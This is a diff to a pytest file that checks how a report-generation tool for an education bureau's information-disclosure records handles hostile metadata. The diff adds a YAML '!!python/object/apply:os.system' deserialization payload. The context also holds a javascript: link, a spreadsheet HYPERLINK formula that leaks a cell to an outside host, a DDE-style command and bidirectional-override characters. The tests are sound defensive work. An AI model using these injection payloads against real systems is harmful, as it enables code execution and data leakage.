@@ -37,6 +37,7 @@ MARKDOWN = "# 大标题 **粗** [点我](javascript:document.title='owned') ![](
 RIGHT_TO_LEFT = "政府\u202e开公息信\u202c\u200b\u2066x\u2069"
 FORMULA = '=HYPERLINK("http://a.example/?"&A1,"点我")'
 COMMAND = "@SUM(1+1)*cmd"
+TAGS = '!!python/object/apply:os.system ["true"] &a [*a, *a]'  # as text; as YAML it is refused, see below
 TITLE = f"云湖市教育局{SCRIPT}2023年政府信息公开工作年度报告"
 
 
@@ -47,7 +48,7 @@ def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
     home = folder / "reports" / AGENCY
     home.mkdir(parents=True)
     entry = {"name_zh": NAME, "level": "prefecture", "function": "education", "division_code": "990100"}
-    entry |= {"province": SCRIPT, "city": "=1+1", "former_names": [RIGHT_TO_LEFT, MARKDOWN]}
+    entry |= {"province": SCRIPT, "city": "=1+1", "former_names": [RIGHT_TO_LEFT, MARKDOWN, TAGS]}
     (home / "agency.yml").write_text(yaml.safe_dump(entry, allow_unicode=True), encoding="utf-8")
     text = as_text(invent(random.Random(3), form_for(2023), 20, Stock()), form_for(2023), NAME, 2023)
     text = text.replace(text.splitlines()[0], TITLE)
@@ -157,6 +158,7 @@ HOSTILE = {
     "formula in a label": ("=HYPERLINK(", "'"),
     "path in a name": (UP, ""),
     "right-to-left marks": ("政府开公息信x", ""),
+    "YAML tags and anchors": (TAGS, ""),
     "300 characters in a name": (NAME, ""),
 }
 
